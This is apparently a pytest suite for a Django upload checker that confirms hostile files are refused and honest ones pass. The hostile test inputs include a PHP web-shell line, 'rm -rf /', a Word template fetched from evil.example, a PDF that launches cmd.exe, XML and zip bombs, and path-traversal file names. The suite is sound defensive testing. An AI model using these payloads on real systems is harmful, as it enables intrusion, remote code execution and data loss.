"""The door for files: hostile ones are refused with a sentence, honest ones pass."""

import io

import openpyxl
import pytest
from django.core.exceptions import ValidationError

from portal.kit.uploads import DOCUMENTS, TABLES, check_upload
from tests.files import docx, jpeg, locked, odt, packed, packed_list, pdf, png, stream, upload, xlsx

HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 64
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
REMOTE = (
    '<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
ACT = "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"
ENTITIES = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>'
BEHIND_A_REMARK = ENTITIES.replace("<!DOCTYPE", f"<!-- <x> {'-= ' * 3000} --><!DOCTYPE")

HOSTILE = {
    "a web page called PDF": (HTML, "report.pdf", "kind of file is not taken"),
    "a web page in front of a PDF": (HTML + pdf(), "report.pdf", "stands in front of the PDF"),
    "a web page in the head of a PDF": (pdf().replace(b"%PDF-1.4\n", b"%PDF-1.4\n%" + HTML), "a.pdf", "glued together"),
    "a web page behind a PDF": (pdf() + HTML, "report.pdf", "glued together"),
    "a packed folder behind a PDF": (pdf() + packed({"a.exe": EXE}), "report.pdf", "glued together"),
    "a script in a PDF": (pdf(catalog=ACT), "report.pdf", "holds a script"),
    "a script in a PDF, written otherwise": (
        pdf(catalog=ACT.replace("/JavaScript", "/J#61vaScr#69pt")),
        "report.pdf",
        "holds a script",
    ),
    "a script in a packed list of a PDF": (
        pdf(objects=packed_list(b"<< /S /JavaScript /JS (app.alert) >>")),
        "report.pdf",
        "holds a script",
    ),
    "a packed list of a PDF that hides its packing": (
        pdf(objects=stream(9, b"3c3c>", "/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]")),
        "report.pdf",
        "nobody can look into",
    ),
    "a program started by a PDF": (
        pdf(catalog="/OpenAction << /S /Launch /F (cmd.exe) >>"),
        "report.pdf",
        "holds a script",
    ),
    "a file inside a PDF": (pdf(catalog="/Names << /EmbeddedFiles 9 0 R >>"), "report.pdf", "file of its own"),
    "a protected PDF": (pdf().replace(b"/Size 5", b"/Size 5 /Encrypt 7 0 R"), "report.pdf", "The PDF is protected"),
    "a PDF that was cut off": (pdf()[:200], "report.pdf", "cut off"),
    "a PDF bomb": (
        pdf(objects=packed_list(b" " * 70_000_000)),
        "report.pdf",
        "unpack to far more",
    ),
    "macros in Word": (docx({"word/vbaProject.bin": b"x"}), "letter.docx", "holds macros"),
    "macros in Excel": (xlsx({"xl/vbaProject.bin": b"x"}), "budget.xlsx", "holds macros"),
    "macros in Excel, the old way": (xlsx({"xl/macrosheets/sheet1.xml": "<x/>"}), "budget.xlsx", "holds macros"),
    "a macro document under another name": (
        docx(types='<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'),
        "letter.docx",
        "holds macros",
    ),
    "macros in OpenDocument": (odt({"Basic/Standard/Module1.xml": "<x/>"}), "letter.odt", "holds macros"),
    "a template from elsewhere": (
        docx({"word/_rels/settings.xml.rels": REMOTE}),
        "letter.docx",
        "fetches something from elsewhere",
    ),
    "a program inside Word": (docx({"word/embeddings/oleObject1.bin": OLE}), "letter.docx", "Another file is hidden"),
    "an XML bomb inside Word": (docx({"word/document.xml": ENTITIES}), "letter.docx", "damaged"),
    "an XML bomb behind a long remark": (docx({"word/document.xml": BEHIND_A_REMARK}), "letter.docx", "damaged"),
    "a zip bomb": (docx({"word/media/a.bmp": b"\0" * 30_000_000}), "letter.docx", "unpack to far more"),
    "a bomb of very many parts": (docx({f"word/{n}": b"" for n in range(3001)}), "letter.docx", "unpack to far more"),
    "a nested bomb": (
        docx({"word/embeddings/a.xlsx": xlsx({"xl/media/a.bmp": b"\0" * 30_000_000})}),
        "letter.docx",
        "unpack to far more",
    ),
    "folders in folders in folders": (
        docx({"word/embeddings/a.xlsx": xlsx({"xl/embeddings/b.docx": docx()})}),
        "letter.docx",
        "packed folder is hidden",
    ),
    "a packed folder inside Word": (
        docx({"word/a.zip": packed({"a": b"a"})}),
        "letter.docx",
        "packed folder is hidden",
    ),
    "a way out of the folder": (docx({"../../etc/passwd": b"root"}), "letter.docx", "damaged"),
    "a packed folder called DOCX": (packed({"run.exe": EXE}), "letter.docx", "packed folder, not one document"),
    "a locked folder called DOCX": (locked(docx()), "letter.docx", "protected by a password"),
    "Word with a password": (OLE, "letter.docx", "password or of an old Office"),
    "old Word": (OLE, "letter.doc", "password or of an old Office"),
    "a Windows program called PDF": (EXE, "report.pdf", "does not know this kind"),
    "a Linux program": (b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 60, "tool.pdf", "does not know this kind"),
    "PHP called JPEG": (b"<?php system($_GET['c']); ?>", "photo.jpg", "kind of file is not taken"),
    "PHP inside a JPEG": (jpeg(b"<?php system($_GET['c']); ?>"), "photo.jpg", "hidden in this picture"),
    "a packed folder behind a PNG": (png() + packed({"a": b"a"}), "photo.png", "hidden in this picture"),
    "a script in SVG": (SVG, "logo.svg", "kind of file is not taken"),
    "SVG called PNG": (SVG, "logo.png", "kind of file is not taken"),
    "RTF called DOCX": (b"{\\rtf1\\ansi hello}", "letter.docx", "kind of file is not taken"),
    "a PDF called JPEG": (pdf(), "scan.jpg", "By its content this is PDF"),
    "a PDF without an ending": (pdf(), "scan", "By its content this is PDF"),
    "two endings": (pdf(), "scan.php.pdf", "two endings"),
    "a program’s ending at last": (pdf(), "scan.pdf.exe", "By its content this is PDF"),
    "a folder in the name": (pdf(), "../../etc/cron.d/scan.pdf", "names a folder"),
    "a Windows folder in the name": (pdf(), "C:\\temp\\scan.pdf", "names a folder"),
    "a null character in the name": (pdf(), "scan.php\x00.pdf", "hidden signs"),
    "a name that reads backwards": (pdf(), "scan\u202efdp.exe", "hidden signs"),
    "a hidden file": (pdf(), ".htaccess.pdf", "has no name"),
    "an endless name": (pdf(), "a" * 300 + ".pdf", "longer than 200"),
    "no bytes at all": (b"", "report.pdf", "is empty"),
    "a huge one": (pdf("x" * 2_000_000), "report.pdf", "larger than 1.0"),
}


@pytest.fixture(autouse=True)
def at_most_a_megabyte(settings):
    settings.UPLOAD_MAX_BYTES = 1024 * 1024


@pytest.mark.parametrize(("content", "name", "sentence"), HOSTILE.values(), ids=HOSTILE)
def test_hostile_file_is_refused_with_a_sentence(content, name, sentence):
    with pytest.raises(ValidationError) as refused:
        check_upload(upload(content, name), DOCUMENTS)
    [said] = refused.value.messages
    assert sentence in said
    assert said.endswith(".")


HOSTILE_TEXTS = {
    "a web page": (HTML, "list.csv"),
    "a web page behind a row": (b"name,place\n" + HTML, "list.csv"),
    "a web page across two pieces": (b"x" * (1024 * 1024 - 3) + HTML, "list.csv"),
    "a web page in UTF-16": ("\ufeff<html><script>alert(1)</script>".encode("utf-16-le"), "list.txt"),
    "a web page in UTF-7": (b"name\n+ADw-script+AD4-alert(1)+ADw-/script+AD4-\n", "list.csv"),
    "XML": (b'<?xml version="1.0"?><x/>', "list.csv"),
    "RTF": (b"{\\rtf1 hello}", "list.txt"),
    "a shell script": (b"#!/bin/sh\nrm -rf /\n", "list.txt"),
    "a program": (EXE, "list.csv"),
    "null characters at the end": (b"a,b\n" * 2000 + b"\x00", "list.csv"),
}


@pytest.mark.parametrize(("content", "name"), HOSTILE_TEXTS.values(), ids=HOSTILE_TEXTS)
def test_hostile_text_is_refused_where_text_is_taken(content, name):
    with pytest.raises(ValidationError):
        check_upload(upload(content, name), TABLES, max_bytes=4 * 1024 * 1024)


def real_workbook() -> bytes:
    out = io.BytesIO()
    book = openpyxl.Workbook()
    for number in range(3000):
        book.active.append(["Name", "Place", number, "the same words again"])
    book.save(out)
    return out.getvalue()


HONEST = {
    "PDF": (pdf(), "Certificat d’enregistrement 2024.pdf", "application/pdf"),
    "PDF with packed lists": (pdf(objects=packed_list(b"<< /Type /Font >>")), "a.PDF", "application/pdf"),
    "PDF that opens on a page": (pdf(catalog="/OpenAction [3 0 R /Fit]"), "v1.2 final.pdf", "application/pdf"),
    "JPEG": (jpeg(), "شهادة التسجيل.jpeg", "image/jpeg"),
    "PNG": (png(), "证书.png", "image/png"),
    "DOCX with a picture and a table": (
        docx({"word/media/image1.svg": SVG, "word/embeddings/table.xlsx": xlsx()}),
        "Lettre.docx",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    "XLSX as a program writes it": (
        real_workbook(),
        "budget.v2.xlsx",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    ),
    "ODT": (odt(), "letter.odt", "application/vnd.oasis.opendocument.text"),
    "a name with a joiner": (pdf(), "نامه\u200cها.pdf", "application/pdf"),
}


@pytest.mark.parametrize(("content", "name", "media_type"), HONEST.values(), ids=HONEST)
def test_honest_file_is_known_by_its_content(content, name, media_type):
    file = upload(content, name)
    checked = check_upload(file, DOCUMENTS)
    assert (checked.kind.media_type, checked.size, file.tell()) == (media_type, len(content), 0)


@pytest.mark.parametrize(
    ("content", "name"),
    [
        ("name,place\nÉcole,Bamako\n".encode(), "list.csv"),
        ("name,place\nÉcole,Bamako\n".encode("cp1252"), "list.csv"),
        ("name\tplace\nмир\n".encode("utf-16"), "list.txt"),
        (b"MZ_ID,a < b\n1,2\n", "mozambique.csv"),
    ],
)
def test_honest_text_passes_where_text_is_taken(content, name):
    check_upload(upload(content, name), TABLES)


def test_text_is_no_document():
    with pytest.raises(ValidationError, match="PDF, JPEG, PNG"):
        check_upload(upload(b"name\n", "list.txt"), DOCUMENTS)
